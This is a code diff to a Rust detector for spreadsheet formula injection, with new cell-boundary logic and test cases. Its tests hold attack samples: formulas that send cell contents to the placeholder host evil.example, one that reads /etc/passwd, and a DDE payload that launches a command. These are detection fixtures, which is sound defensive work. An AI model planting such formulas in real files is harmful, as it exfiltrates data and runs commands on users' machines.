@@ -4,6 +4,7 @@
 
 use super::marks::{self, Cursor, Group};
 use super::{Hit, Text};
+use crate::bytes;
 use crate::decision::Class;
 
 pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
@@ -14,7 +15,7 @@ pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
         return None;
     }
     let mut calls = Cursor::new(Group::Formulas, text.marks);
-    let starts = std::iter::once(0).chain(memchr::memchr3_iter(b'\n', b';', b'"', lower).map(|at| at + 1));
+    let starts = std::iter::once(0).chain(cells(lower));
     let mut skipped = 0;
     for at in starts {
         // What a run of quotes and blanks leads to was looked at from its start.
@@ -29,6 +30,10 @@ pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
         else {
             continue;
         };
+        // A rule drawn with signs, the mark of a program in its log.
+        if body.starts_with(b"=") {
+            continue;
+        }
         if !text.spend(30) {
             return None;
         }
@@ -46,6 +51,20 @@ pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
         }
     }
     None
+}
+
+/// Where a cell may begin: behind the ends of lines and of cells. What a comma or a tab ends is a cell only in a table, and
+/// in a table nobody begins one with the sign of a formula.
+fn cells(lower: &[u8]) -> impl Iterator<Item = usize> {
+    let mut from = 0;
+    let ends = std::iter::from_fn(move || {
+        let is = |b| (b == b'\n') | (b == b';') | (b == b'"') | (b == b',') | (b == b'\t');
+        let at = from + bytes::position(lower.get(from..)?, is)?;
+        from = at + 1;
+        Some(at)
+    });
+    ends.filter(|at| !matches!(lower.get(*at), Some(b',' | b'\t')) || lower.get(at + 1) == Some(&b'='))
+        .map(|at| at + 1)
 }
 
 /// `cmd|'/C calc'!A0`: another program by dynamic data exchange.
@@ -107,6 +126,8 @@ mod tests {
             "=1+IMPORTXML(\"http://evil.example\",\"//a\")",
             "='file:///etc/passwd'#$passwd.A1",
             "\"=cmd|'/C calc'!A0\"",
+            "x,=WEBSERVICE(\"http://evil.example/\"&A1)",
+            "a\t=HYPERLINK(\"http://evil.example/\"&B1)",
         ] {
             assert!(sample(detect, text), "{text}");
         }
@@ -124,6 +145,8 @@ mod tests {
             "=VLOOKUP(A2,Prices!A:C,3,FALSE)",
             "-- ",
             "+1 call (please)",
+            "x = f(a, -call(b))",
+            "log:\n==17== call(x)",
         ] {
             assert!(!sample(detect, text), "{text}");
         }
